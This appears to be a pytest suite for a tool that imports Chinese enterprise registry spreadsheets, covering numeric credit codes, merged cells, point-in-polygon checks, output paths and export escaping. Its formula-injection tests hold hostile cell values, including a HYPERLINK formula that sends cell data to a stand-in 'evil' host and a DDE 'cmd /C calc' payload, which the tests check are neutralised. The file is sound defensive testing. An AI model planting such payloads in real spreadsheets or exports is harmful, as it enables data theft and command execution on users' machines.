"""Faults real spreadsheets bring (issue 15): credit codes stored as numbers,
merged cells, formula injection, a point on the district's outline, output paths.

Each kind is tested on both XLSX readers (python-calamine and the openpyxl
fallback) with workbooks openpyxl writes here, and by tables or properties where
one example cannot stand for the kind.
"""

import csv
import sys

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from shapely.geometry import Point, Polygon, box

from gridwatch.errors import InvalidInputError
from gridwatch.registry import (
    ImportSummary,
    explain_uscc,
    make_uscc,
    read_registry,
    validate_row,
    validate_rows,
    write_registry,
    write_rejects,
)
from gridwatch.registry.summary import Reject
from gridwatch.spreadsheets import FORMULA_TRIGGERS, check_writable, neutralise, restore

HEADER = ["统一社会信用代码", "企业名称", "地址", "行业", "风险等级", "涉危化品"]
#: Published codes of real companies (Huawei, Tencent, Alibaba, the GB 32100
#: example): both check characters hold.
REAL = [
    "914403001922038216",
    "9144030071526726XG",
    "91330100716105852F",
    "91440300708461136T",
    "91350100M000100Y43",
]


@pytest.fixture(params=["calamine", "openpyxl"])
def reader(request, monkeypatch):
    """Run the test with each XLSX reader."""
    if request.param == "openpyxl":
        monkeypatch.setitem(sys.modules, "python_calamine", None)  # ImportError
    return request.param


def _xlsx(path, rows, merges=(), header=HEADER):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(header)
    for r in rows:
        ws.append(r)
    for ref in merges:
        ws.merge_cells(ref)
    wb.save(path)
    return path


def _import(path, **kw):
    summary = ImportSummary()
    rows = validate_rows(read_registry(path), summary, **kw)
    out = {n: rec for n, rec, _ in rows if rec}
    return summary, out


# --- credit codes stored as numbers ------------------------------------------------


@pytest.mark.parametrize("code", REAL)
def test_explain_uscc_real_codes_pass_both_checks(code):
    assert explain_uscc(code) is None


def test_explain_uscc_excel_rounded_code_fails_the_organisation_check():
    # 9.14406044318073E+17 read back as an integer: its own check passes by chance
    why = explain_uscc("914406044318072960")
    assert "organisation code" in why and "GB 11714" in why and "text" in why


def test_numeric_credit_code_cell_is_refused_with_the_fix(tmp_path, reader):
    path = _xlsx(
        tmp_path / "r.xlsx",
        [
            [9.14406044318073e17, "甲厂", "张槎路1号", "陶瓷", "红", "否"],
            [REAL[0], "乙厂", "张槎路2号", "陶瓷", "红", "否"],
        ],
    )
    summary, recs = _import(path)
    assert list(recs) == [3] and summary.rejected == 1
    reason = summary.rejects[0].reason
    assert summary.rejects[0].row == 2 and summary.rejects[0].field == "uscc"
    assert "stored as a number" in reason and "format" in reason and "文本" in reason
    assert "914406044318072960" not in {r["uscc"] for r in recs.values()}


@given(
    st.one_of(
        st.integers(min_value=0, max_value=10**18),
        st.floats(min_value=0, max_value=1e18, allow_nan=False),
    )
)
def test_any_number_in_the_credit_code_column_is_refused(value):
    rec, rej = validate_row(2, {"uscc": value, "name": "某厂", "address": "某路1号"})
    assert rec is None and "stored as a number" in rej[0].reason


@pytest.mark.parametrize("text", ["9.14406044318073E+17", "9.14406E+17", "9.1E17"])
def test_scientific_notation_credit_code_text_is_refused(text):
    _, rej = validate_row(2, {"uscc": text, "name": "某厂", "address": "某路1号"})
    assert "scientific notation" in rej[0].reason and "text" in rej[0].reason


@given(
    st.text(alphabet="0123456789ABCDEFGHJKLMNPQRTUWXY", min_size=8, max_size=8),
    st.sampled_from(["91", "92", "12", "51"]),
)
def test_make_uscc_codes_pass_both_checks(body, kind):
    assert explain_uscc(make_uscc(body, "440604", kind)) is None


# --- merged cells ----------------------------------------------------------------


def test_merged_rows_take_the_top_left_value_with_a_note(tmp_path, reader):
    """行业, 风险等级, 涉危化品 merged over three rows: a red hazardous-chemicals firm
    must not become yellow/none on rows 3 and 4."""
    path = _xlsx(
        tmp_path / "m.xlsx",
        [
            [REAL[0], "甲化工", "张槎路1号", "危险化学品", "红", "是"],
            [REAL[1], "乙化工", "张槎路2号", None, None, None],
            [REAL[2], "丙化工", "张槎路3号", None, None, None],
        ],
        merges=["D2:D4", "E2:E4", "F2:F4"],
    )
    summary, recs = _import(path)
    assert summary.valid == 3 and summary.rejected == 0
    for n in (2, 3, 4):
        assert (recs[n]["sector"], recs[n]["risk_level"], recs[n]["has_hazchem"]) == (
            "hazchem",
            "red",
            True,
        )
    filled = {(n.row, n.field) for n in summary.notes if "merged range" in n.reason}
    assert filled == {
        (r, f) for r in (3, 4) for f in ("sector", "risk_level", "has_hazchem")
    }


def test_merge_across_columns_rejects_the_covered_cells(tmp_path, reader):
    path = _xlsx(
        tmp_path / "m.xlsx",
        [
            [REAL[0], "甲厂", "张槎路1号", "陶瓷", "红", "否"],
            [REAL[1], "乙厂", "张槎路2号", "陶瓷", "红", None],
        ],
        merges=["E3:F3"],
    )
    summary, recs = _import(path)
    assert list(recs) == [2]
    assert [(r.row, r.field) for r in summary.rejects] == [(3, "has_hazchem")]
    assert (
        "E3:F3" in summary.rejects[0].reason and "unmerge" in summary.rejects[0].reason
    )


def test_merged_credit_codes_are_duplicates_naming_the_merge(tmp_path, reader):
    path = _xlsx(
        tmp_path / "m.xlsx",
        [
            [REAL[0], "甲厂", "张槎路1号", "陶瓷", "红", "否"],
            [None, "甲厂二车间", "张槎路2号", "陶瓷", "红", "否"],
        ],
        merges=["A2:A3"],
    )
    summary, _ = _import(path)
    assert summary.rejected == 1 and "A2:A3" in summary.rejects[0].reason


def test_title_merged_above_the_header_is_ignored(tmp_path, reader):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"] = "禅城区企业名录"
    ws.merge_cells("A1:F1")
    ws.append(HEADER)
    ws.append([REAL[0], "甲厂", "张槎路1号", "陶瓷", "红", "否"])
    wb.save(tmp_path / "t.xlsx")
    summary, recs = _import(tmp_path / "t.xlsx")
    assert list(recs) == [3] and summary.notes == [] and summary.rejected == 0


# --- formula injection ---------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=已转义",
    "正常名称 =1",
]


@given(st.text(max_size=30))
def test_neutralise_then_restore_is_the_identity(text):
    assert restore(neutralise(text)) == text


@given(st.text(min_size=1, max_size=30))
def test_neutralised_text_never_starts_a_formula(text):
    assert not str(neutralise(text)).startswith(FORMULA_TRIGGERS)


def _records(names):
    return [
        {
            "uscc": make_uscc(f"{i:08d}"),
            "name": n,
            "address": "张槎路1号",
            "contact_phone": "+86 757 8308 4971",
            "extra_attrs": {"备注": "-急-"},
        }
        for i, n in enumerate(names)
    ]


def test_csv_export_neutralises_every_trigger(tmp_path):
    path = tmp_path / "e.csv"
    write_registry(_records(HOSTILE), path)
    rows = list(csv.reader(path.read_text("utf-8-sig").splitlines()))
    cells = [c for row in rows[1:] for c in row if c]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [
        c
        for c in cells
        if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
    ]


def test_xlsx_export_keeps_the_name_as_quoted_text(tmp_path):
    path = tmp_path / "e.xlsx"
    write_registry(_records(HOSTILE[:1]), path)
    cell = openpyxl.load_workbook(path).active["B2"]
    assert cell.data_type == "s" and cell.quotePrefix and cell.value == HOSTILE[0]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson"])
def test_export_import_round_trips_hostile_names(tmp_path, fmt, reader):
    path = tmp_path / f"e.{fmt}"
    write_registry(_records(HOSTILE), path)
    summary, recs = _import(path)
    assert summary.rejected == 0, summary.rejects
    # clean_text trims and collapses spaces: a leading tab/CR is whitespace
    want = [" ".join(n.split()) for n in HOSTILE]
    assert [r["name"] for r in recs.values()] == want
    assert {r["contact_phone"] for r in recs.values()} == {"+86 757 8308 4971"}
    assert {r["extra_attrs"]["备注"] for r in recs.values()} == {"-急-"}


def test_rejects_file_is_neutralised(tmp_path):
    path = tmp_path / "rej.csv"
    write_rejects([Reject(2, "name", "=cmd|' /C calc'!A0", "=bad")], path)
    row = list(csv.reader(path.read_text("utf-8-sig").splitlines()))[1]
    assert row[2].startswith("'=") and row[3].startswith("'=")


# --- a point on the district's outline ------------------------------------------------

# binary fractions, so a point "on" the slanted edge is exactly on it in floats
DISTRICT = Polygon([(113.0, 23.0), (113.25, 23.0), (113.25, 23.25), (113.0, 23.5)])


@pytest.mark.parametrize(
    ("lng", "lat", "inside"),
    [
        (113.0, 23.125, True),  # on the west edge
        (113.25, 23.0, True),  # a vertex
        (113.125, 23.375, True),  # on the slanted edge
        (113.125, 23.125, True),  # inside
        (112.9999999, 23.125, False),
        (113.125, 23.3750001, False),
    ],
)
def test_point_on_the_outline_is_inside(lng, lat, inside):
    row = {"uscc": REAL[0], "name": "某厂", "lng": lng, "lat": lat, "datum": "wgs84"}
    rec, rej = validate_row(2, row, DISTRICT)
    assert (rec is not None) is inside, rej
    assert DISTRICT.covers(Point(lng, lat)) is inside  # the rule place/assign use


@given(st.floats(0, 1), st.sampled_from(range(4)))
def test_points_on_box_edges_are_inside(t, side):
    x0, y0, x1, y1 = 113.0, 23.0, 113.125, 23.0625  # exact binary fractions
    lng, lat = [
        (x0 + t * (x1 - x0), y0),
        (x1, y0 + t * (y1 - y0)),
        (x0 + t * (x1 - x0), y1),
        (x0, y0 + t * (y1 - y0)),
    ][side]
    row = {"uscc": REAL[0], "name": "某厂", "lng": lng, "lat": lat, "datum": "wgs84"}
    assert validate_row(2, row, box(x0, y0, x1, y1))[0] is not None


# --- output paths checked before any work --------------------------------------------


def test_check_writable_refuses_missing_folder(tmp_path):
    with pytest.raises(InvalidInputError, match="does not exist"):
        check_writable(tmp_path / "no" / "such" / "r.csv", "rejects file")


def test_check_writable_refuses_a_folder(tmp_path):
    with pytest.raises(InvalidInputError, match="is a folder"):
        check_writable(tmp_path, "rejects file")


def test_check_writable_accepts_new_file_and_creates_nothing(tmp_path):
    assert check_writable(tmp_path / "r.csv") == tmp_path / "r.csv"
    assert not (tmp_path / "r.csv").exists()


def test_csv_keep_as_text_idiom_gives_the_code(tmp_path):
    # ="…" is how a clerk makes Excel keep an 18-digit code as text in a CSV
    path = tmp_path / "r.csv"
    path.write_text(
        "统一社会信用代码,企业名称,地址\n"
        f'"=""{REAL[0]}""",甲厂,张槎路1号\n'
        f'\'="x",乙厂,张槎路2号\n',
        encoding="utf-8",
    )
    rows = list(read_registry(path))
    assert rows[0][1]["uscc"] == REAL[0]
    assert rows[1][1]["uscc"] == '="x"'  # an escaped cell is restored, not unwrapped


def test_repeated_header_row_is_rejected_with_its_reason():
    summary = ImportSummary()
    raw = {"uscc": "统一社会信用代码", "name": "企业名称", "address": "地址"}
    list(validate_rows([(7, raw)], summary))
    assert summary.rejected == 1 and "repeats the header" in summary.rejects[0].reason
